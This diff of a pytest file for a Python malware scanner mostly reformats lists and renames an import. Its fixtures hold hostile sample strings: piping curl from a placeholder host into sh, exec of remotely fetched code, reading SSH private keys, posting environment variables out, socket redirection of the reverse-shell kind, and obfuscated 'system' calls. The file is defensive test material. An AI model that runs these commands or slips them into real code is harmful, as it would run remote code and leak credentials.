@@ -10,14 +10,28 @@ from collections import Counter
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from metier.scan.analyzers.python import MOST_OF_ONE, find
+from metier.scan.languages.python.scan_python import find
+from metier.scan.model import MAX_HITS_PER_RULE
 from metier.scan.rules.python import RULES
 
 SAMPLES = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
 CATEGORIES = {
-    "injection", "exfiltration", "credential", "execution", "persistence", "destructive", "privilege", "obfuscation", "network", "supply",
-    "evasion", "structure", "escalation", "social", "mining",
-}  # fmt: skip
+    "injection",
+    "exfiltration",
+    "credential",
+    "execution",
+    "persistence",
+    "destructive",
+    "privilege",
+    "obfuscation",
+    "network",
+    "supply",
+    "evasion",
+    "structure",
+    "escalation",
+    "social",
+    "mining",
+}
 PAYLOAD = "import os\nos.system('curl -s https://a.example/x | sh')"
 
 
@@ -81,10 +95,22 @@ def test_a_command_is_seen_through_aliases_and_import_tricks(code: str) -> None:
 
 @pytest.mark.parametrize(
     "name",
-    ["'sys' + 'tem'", "''.join(['sys', 'tem'])", "'metsys'[::-1]", "'%s%s' % ('sys', 'tem')", "'{}{}'.format('sys', 'tem')", "f\"{'sys'}tem\"",
-     "bytes.fromhex('73797374656d').decode()", "chr(115) + 'ystem'", "'flfgrz'.encode('rot13')", "'SYSTEM'.lower()", "'sys-tem'.replace('-', '')",
-     "''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])", "''.join(map(chr, [115, 121, 115, 116, 101, 109]))"],
-)  # fmt: skip
+    [
+        "'sys' + 'tem'",
+        "''.join(['sys', 'tem'])",
+        "'metsys'[::-1]",
+        "'%s%s' % ('sys', 'tem')",
+        "'{}{}'.format('sys', 'tem')",
+        "f\"{'sys'}tem\"",
+        "bytes.fromhex('73797374656d').decode()",
+        "chr(115) + 'ystem'",
+        "'flfgrz'.encode('rot13')",
+        "'SYSTEM'.lower()",
+        "'sys-tem'.replace('-', '')",
+        "''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])",
+        "''.join(map(chr, [115, 121, 115, 116, 101, 109]))",
+    ],
+)
 def test_a_name_that_is_built_is_worked_out(name: str) -> None:
     code = f"import os\ngetattr(os, {name})('x')"
 
@@ -121,7 +147,14 @@ def test_decoded_text_is_the_evidence() -> None:
     assert PAYLOAD == shown["SC302"]
 
 
-@pytest.mark.parametrize("code", ["exec(marshal.loads(x))", "exec(''.join(chr(c ^ 7) for c in data))", "eval(fernet.decrypt(x) if 0 else zlib.decompress(y))"])
+@pytest.mark.parametrize(
+    "code",
+    [
+        "exec(marshal.loads(x))",
+        "exec(''.join(chr(c ^ 7) for c in data))",
+        "eval(fernet.decrypt(x) if 0 else zlib.decompress(y))",
+    ],
+)
 def test_content_that_cannot_be_decoded_here_is_still_decoded_content(code: str) -> None:
     assert "SC302" in rules_of(code)
 
@@ -208,7 +241,7 @@ def test_hits_are_sorted_and_bounded() -> None:
     hits = find("import os\n" + "os.system('sudo x')\nos.remove('a')\n" * 300)
 
     assert sorted(hit.start for hit in hits) == [hit.start for hit in hits]
-    assert max(Counter(hit.rule for hit in hits).values()) <= MOST_OF_ONE
+    assert max(Counter(hit.rule for hit in hits).values()) <= MAX_HITS_PER_RULE
     assert 20 == sum(hit.rule == "SC339" for hit in hits)
 
 
@@ -225,7 +258,10 @@ def test_docstrings_and_comments_are_not_code() -> None:
     ("code", "rule"),
     [
         ("print 'hello'\nexec base64.b64decode('aaaa')\n", "SC302"),
-        ("print 'hello'\nimport urllib2\nexec(urllib2.urlopen('http://a.example').read())\n", "SC301"),
+        (
+            "print 'hello'\nimport urllib2\nexec(urllib2.urlopen('http://a.example').read())\n",
+            "SC301",
+        ),
         ("def f(:\n  data = open('/root/.ssh/id_rsa').read()\n", "SC305"),
         ("x = (\nos.dup2(s.fileno(), 0)\n", "SC307"),
         ("}}}\nrequests.post(u, data=dict(os.environ))\n", "SC304"),
@@ -245,7 +281,13 @@ def test_the_parts_that_parse_are_still_followed() -> None:
     assert {"SC303", "SC394"} <= rules_of(code)
 
 
-@pytest.mark.parametrize("code", ["    import os\n    os.system('sudo x')\n", "!pip install x\nimport os\nos.system('sudo x')\n"])
+@pytest.mark.parametrize(
+    "code",
+    [
+        "    import os\n    os.system('sudo x')\n",
+        "!pip install x\nimport os\nos.system('sudo x')\n",
+    ],
+)
 def test_indented_fragments_and_notebook_lines_count_as_whole(code: str) -> None:
     found = rules_of(code)
 
@@ -298,9 +340,41 @@ def test_a_payload_below_a_deep_expression_is_still_seen() -> None:
 
 
 WORDS = st.sampled_from(
-    ["import os\n", "os.system(", "exec(", "'", '"', "f'{", "}'", ")", "(", "[", "]", "\n", "    ", "def f(x):\n", "return ", "x", "=", "+", "%",
-     "base64.b64decode(", "'aGk='", "requests.post(", "open(", "'~/.ssh/id_rsa'", ".read()", "lambda:", "class A:\n", "\\", "\ud800", "\0", "é", "#"]
-)  # fmt: skip
+    [
+        "import os\n",
+        "os.system(",
+        "exec(",
+        "'",
+        '"',
+        "f'{",
+        "}'",
+        ")",
+        "(",
+        "[",
+        "]",
+        "\n",
+        "    ",
+        "def f(x):\n",
+        "return ",
+        "x",
+        "=",
+        "+",
+        "%",
+        "base64.b64decode(",
+        "'aGk='",
+        "requests.post(",
+        "open(",
+        "'~/.ssh/id_rsa'",
+        ".read()",
+        "lambda:",
+        "class A:\n",
+        "\\",
+        "\ud800",
+        "\0",
+        "é",
+        "#",
+    ]
+)
 
 
 @settings(max_examples=150, deadline=None)
